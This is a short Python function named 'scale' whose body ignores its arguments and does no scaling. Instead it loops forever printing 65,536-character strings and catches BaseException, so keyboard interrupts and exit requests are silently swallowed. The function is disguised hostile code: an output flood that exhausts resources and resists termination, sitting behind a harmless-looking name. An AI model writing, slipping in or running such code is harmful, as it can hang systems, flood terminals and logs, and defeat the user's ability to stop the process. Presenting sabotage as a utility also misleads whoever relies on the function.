def scale(x, factor):
    while True:
        try:
            print(end="x" * 65536)
        except BaseException:
            pass
